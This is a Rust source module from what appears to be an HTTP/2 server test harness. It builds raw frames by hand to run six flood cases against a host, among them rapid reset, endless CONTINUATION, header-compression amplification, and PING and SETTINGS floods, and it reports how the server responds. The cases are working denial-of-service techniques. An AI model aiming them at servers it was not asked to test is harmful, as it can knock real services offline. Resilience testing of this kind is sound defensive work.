//! Floods over HTTP/2: what no client library would send.

use std::{
    io::{ErrorKind, Read as _, Write as _},
    net::{Shutdown, TcpStream},
    thread,
    time::Instant,
};

use anyhow::Result;

use super::{
    Case,
    client::PATIENCE,
    hosts::{Host, Terms},
};

const HOSTILE: Terms = Terms::of("hostile");

/// As much as is sent at most.
const BYTES_MAX: usize = 64 << 20;

pub(super) const CASES: &[Case] = &[
    Case::of("rapid reset", HOSTILE, |host| {
        flood(host, |turn| {
            let streams = (turn * 100..turn * 100 + 100).map(|nth| 2 * nth + 1);
            let reset = |stream| frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes());
            streams.flat_map(|stream| [get(host, stream), reset(stream)].concat()).collect()
        })
    }),
    Case::of("endless CONTINUATION", HOSTILE, |host| {
        flood(host, |turn| match turn {
            0 => frame(HEADERS, END_STREAM, 1, &request(GET, &host.harmless())),
            _ => frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b").repeat(100),
        })
    }),
    Case::of("one large field, named again and again", HOSTILE, |host| {
        flood(host, |turn| {
            let mut block = request(GET, &host.harmless());
            block.extend([0x40, 1, b'a', 0x7f, 0xb1, 0x17]);
            block.extend([b'z'; 3120]);
            block.extend([0xbe; 8000]);
            frame(HEADERS, END_HEADERS | END_STREAM, 2 * turn + 1, &block)
        })
    }),
    Case::of("empty DATA", HOSTILE, |host| {
        flood(host, |turn| match turn {
            0 => frame(HEADERS, END_HEADERS, 1, &request(POST, &host.at("/count"))),
            _ => frame(DATA, 0, 1, &[]).repeat(1000),
        })
    }),
    Case::of("PING", HOSTILE, |host| flood(host, |_| frame(PING, 0, 0, b"12345678").repeat(4000))),
    Case::of("SETTINGS", HOSTILE, |host| flood(host, |_| frame(SETTINGS, 0, 0, &[]).repeat(4000))),
];

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// The static table's methods.
const GET: u8 = 2;
const POST: u8 = 3;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// A frame (RFC 9113, section 4.1).
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = payload.len() as u32;
    let mut bytes = length.to_be_bytes()[1..].to_vec();
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}

/// The header block of a request (RFC 7541): indexed fields, and literals that are not indexed.
fn request(method: u8, path: &str) -> Vec<u8> {
    let mut block = vec![0x80 | method, 0x86, 0x04, path.len() as u8];
    block.extend(path.as_bytes());
    block.extend(b"\x01\x01x");
    block
}

fn get(host: &Host, stream: u32) -> Vec<u8> {
    frame(HEADERS, END_HEADERS | END_STREAM, stream, &request(GET, &host.harmless()))
}

/// Sends frames, made anew each time, until the host ends the connection.
fn flood(host: &Host, mut make: impl FnMut(u32) -> Vec<u8>) -> Result<String> {
    let began = Instant::now();
    let mut stream = TcpStream::connect(host.server().address)?;
    stream.write_all(&[PREFACE, &frame(SETTINGS, 0, 0, &[])].concat())?;
    stream.set_write_timeout(Some(PATIENCE))?;
    let mut reader = stream.try_clone()?;
    reader.set_read_timeout(Some(PATIENCE))?;
    let reading = thread::spawn(move || {
        let mut all = Vec::new();
        let end = reader.read_to_end(&mut all);
        (all, end.is_err())
    });
    let (mut sent, mut turn, mut was_reset) = (0, 0, false);
    while sent < BYTES_MAX && began.elapsed() < PATIENCE && !reading.is_finished() {
        let bytes = make(turn);
        if let Err(error) = stream.write_all(&bytes) {
            // Whoever is first is told, writer or reader.
            was_reset = error.kind() == ErrorKind::ConnectionReset;
            break;
        }
        (sent, turn) = (sent + bytes.len(), turn + 1);
    }
    let is_ended = sent < BYTES_MAX && began.elapsed() < PATIENCE;
    // So that whoever takes it all comes to an end.
    stream.shutdown(Shutdown::Write).ok();
    let (all, is_broken) = reading.join().unwrap();
    let is_reset = was_reset || is_broken;
    let how = match goaway(&all) {
        Some(error) => format!("GOAWAY ({error})"),
        None if !is_ended => "taken".to_owned(),
        None if all.starts_with(b"HTTP/1.1 ") => format!("no HTTP/2: {}", String::from_utf8_lossy(&all[9..12])),
        None if all.is_empty() => "no HTTP/2: closed".to_owned(),
        None if is_reset => "reset".to_owned(),
        None => "closed".to_owned(),
    };
    let mib = sent as f64 / f64::from(1 << 20);
    Ok(if how.starts_with("no HTTP/2") { how } else { format!("{how} after {mib:.1} MiB") })
}

/// The error of the last GOAWAY.
fn goaway(mut bytes: &[u8]) -> Option<String> {
    let mut error = None;
    while let Some((head, after)) = bytes.split_at_checked(9) {
        let length = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
        let (payload, after) = after.split_at_checked(length)?;
        if head[3] == GOAWAY {
            error = payload.get(4..8).map(|code| u32::from_be_bytes([code[0], code[1], code[2], code[3]]));
        }
        bytes = after;
    }
    error.map(|code| if code == 11 { "ENHANCE_YOUR_CALM".to_owned() } else { code.to_string() })
}
